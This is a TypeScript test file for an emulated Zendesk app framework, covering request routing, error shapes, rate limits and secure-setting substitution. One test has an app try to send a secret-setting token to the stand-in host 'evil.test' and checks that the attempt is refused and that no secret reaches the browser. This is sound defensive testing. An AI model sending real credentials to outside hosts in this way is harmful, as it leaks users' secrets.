import type { Frame } from 'playwright-core';
import { expect, test } from 'vitest';
import { expectRefereed } from '../small-account';
import { inBrowser, SECRETS, waitForEvent } from './in-browser';

/** An app's request; what it resolved or was rejected with. */
const ask = (app: Frame, options: string | object): Promise<{ done?: unknown; fail?: Record<string, unknown> }> =>
  app.evaluate(
    (given) =>
      window.client.request(given).then(
        (done) => ({ done }),
        (fail) => ({ fail: fail as Record<string, unknown> }),
      ),
    options,
  );

inBrowser('Requests of an app', (open, common) => {
  test('Zendesk’s API answers as to the signed-in agent, over the events of the request', async () => {
    const { app, account, ticket } = await open();
    const { done } = await ask(app, `/api/v2/tickets/${ticket}.json`);
    expect(done).toMatchObject({ ticket: { id: ticket, subject: 'Vault is down' } });
    expect((await ask(app, '/api/v2/users/me.json')).done).toMatchObject({ user: { email: 'agent@vendor.test' } });
    const heard = await app.evaluate(() => window.heard.map(({ data }) => data as Record<string, unknown>));
    const answer = heard.find(({ key }) => key === 'zaf.request:1.done') as { message: { responseArgs: unknown[] } };
    expect(answer.message.responseArgs.slice(0, 2)).toEqual([done, 'success']);
    expect(answer.message.responseArgs[2]).toMatchObject({ status: 200, statusText: 'OK', responseJSON: done });
    const apps = account.exchanges.filter(({ origin }) => origin === 'app').map(({ path }) => path);
    expect(apps).toEqual([`/api/v2/tickets/${ticket}`, '/api/v2/users/me']);
    await expectRefereed(account.exchanges.filter(({ origin }) => origin === 'app'));
  });

  test('an address of the account’s own is the account’s API, too', async () => {
    const { app, ticket, account } = await common();
    const { done } = await ask(app, { url: `${account.cloud.origin}/api/v2/tickets/${ticket}` });
    expect(done).toMatchObject({ ticket: { id: ticket } });
  });

  test('a failure rejects with what jQuery gives, a plain object with the answer in it', async () => {
    const { app } = await common();
    expect((await ask(app, '/api/v2/tickets/999.json')).fail).toMatchObject({
      ...{ status: 404, statusText: 'Not Found', responseJSON: { error: 'RecordNotFound', description: 'Not found' } },
      responseText: '{"error":"RecordNotFound","description":"Not found"}',
    });
    expect((await ask(app, { url: '/api/v2/groups.json', type: 'POST', data: '{}' })).fail).toMatchObject({
      status: 403,
    });
  });

  test('the complete response is there for those who ask for it', async () => {
    const { app, ticket } = await common();
    const { done } = await ask(app, { url: `/api/v2/tickets/${ticket}.json`, httpCompleteResponse: true });
    expect(done).toMatchObject({ status: 200, statusText: 'OK', responseJSON: { ticket: { id: ticket } } });
  });

  test('a change by an app is by the API, and the page and the app’s events show it', async () => {
    const { app, page, account, ticket } = await open();
    await app.evaluate(() => {
      window.hear('ticket.priority.changed');
      window.hear('ticket.updated');
    });
    await page.getByLabel('Public reply').fill('Half a sentence');
    const { done } = await ask(app, {
      ...{ url: `/api/v2/tickets/${ticket}.json`, type: 'PUT', contentType: 'application/json' },
      data: JSON.stringify({
        ticket: { priority: 'high', comment: { body: 'A note of the app', public: false }, metadata: { kind: 'note' } },
      }),
    });
    expect(done).toMatchObject({ audit: { via: { channel: 'api' }, metadata: { custom: { kind: 'note' } } } });
    await waitForEvent(app, 'ticket.priority.changed', 1);
    await page.getByText('A note of the app').waitFor();
    expect(await page.getByLabel('Priority').inputValue()).toBe('high');
    // What the agent was typing is still there.
    expect(await page.getByLabel('Public reply').inputValue()).toBe('Half a sentence');
    await expectRefereed(account.exchanges.filter(({ origin }) => origin === 'app'));
  });

  test('an object is sent as a form, in the address of a GET', async () => {
    const { app, account } = await common();
    await ask(app, { url: '/api/v2/tickets.json', data: { per_page: 1, ids: [1, 2] } });
    expect(account.exchanges.at(-1)?.query).toEqual({ per_page: '1', 'ids[]': ['1', '2'] });
  });

  test('limits hold for apps as for everybody: 429 with Retry-After, or sent again by the framework itself', async () => {
    const { app, account } = await open();
    account.cloud.failNext({ method: 'GET', path: '/api/v2/users/me', status: 429, headers: { 'retry-after': '1' } });
    const { fail } = await ask(app, { url: '/api/v2/users/me.json', autoRetry: false });
    expect(fail).toMatchObject({ status: 429, headers: { 'retry-after': '1' } });
    account.cloud.failNext({ method: 'GET', path: '/api/v2/users/me', status: 429, headers: { 'retry-after': '1' } });
    expect((await ask(app, '/api/v2/users/me.json')).done).toMatchObject({ user: { name: 'Gus Agent' } });
  });

  test('secure settings reach the whitelisted host and appear in nothing that the browser gets', async () => {
    const outside: { url: string; headers: Record<string, string>; body: string }[] = [];
    const answers: Promise<string>[] = [];
    const { app, page } = await open({
      outside: async (request) => {
        outside.push({ url: request.url, headers: Object.fromEntries(request.headers), body: await request.text() });
        return Response.json({ ok: true });
      },
      prepare: async (page) => {
        page.on('response', (response) => {
          answers.push(
            response.text().then(
              (text) => `${response.url()}\n${JSON.stringify(response.headers())}\n${text}`,
              () => response.url(),
            ),
          );
        });
        page.on('request', (request) => answers.push(Promise.resolve(`${request.url()}\n${request.postData()}`)));
      },
    });
    const url = 'https://api.example.test/v1';
    const sent = await ask(app, {
      ...{ url, type: 'POST', secure: true, contentType: 'application/json' },
      headers: { Authorization: 'Bearer {{setting.api_token}}', 'X-Token': '{{jwt.token}}' },
      data: JSON.stringify({ key: '{{setting.body_key}}' }),
      jwt: { algorithm: 'HS256', secret_key: '{{setting.shared_secret}}', expiry: 60, claims: { iss: 'acme' } },
    });
    expect(sent).toEqual({ done: { ok: true } });
    expect(outside).toMatchObject([
      { url, headers: { authorization: 'Bearer TOKEN-5f2' }, body: '{"key":"BODY-9c1"}' },
    ]);
    expect(outside[0]?.headers['x-token']).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);

    const open_ = await ask(app, { url, headers: { Authorization: '{{setting.api_token}}' } });
    expect(open_).toEqual({ done: { ok: true } });
    expect(outside[1]?.headers.authorization).toBe('{{setting.api_token}}');

    const other = await ask(app, { url: 'https://evil.test/', secure: true, headers: { a: '{{setting.api_token}}' } });
    expect(other.fail).toMatchObject({ status: 403, statusText: 'Forbidden' });
    expect(outside).toHaveLength(2);

    const metadata = await app.evaluate(() => window.client.metadata());
    expect(metadata).toMatchObject({ settings: { greeting: 'Hello' } });
    const everything = [
      ...(await Promise.all(answers)),
      JSON.stringify(metadata),
      await page.content(),
      await app.content(),
    ];
    const messages = await page.evaluate(() => JSON.stringify(window.heard));
    for (const secret of Object.values(SECRETS))
      expect(
        [...everything, messages].filter((text) => text.includes(secret)),
        secret,
      ).toEqual([]);
    const token = outside[0]?.headers['x-token'] ?? '';
    expect(everything.filter((text) => text.includes(token))).toEqual([]);
  });

  test('a server outside that fails, and one that says no JSON where JSON was wanted, reject', async () => {
    const { app } = await open({
      outside: async ({ url }) =>
        url.endsWith('/broken') ? new Response('{', { status: 200 }) : new Response('No', { status: 500 }),
    });
    expect((await ask(app, 'https://api.example.test/')).fail).toMatchObject({ status: 500, responseText: 'No' });
    const broken = await ask(app, { url: 'https://api.example.test/broken', dataType: 'json' });
    expect(broken.fail).toMatchObject({ status: 200, responseText: '{' });
    expect((await ask(app, { url: 'https://api.example.test/broken' })).fail).toBeUndefined();
  });
});
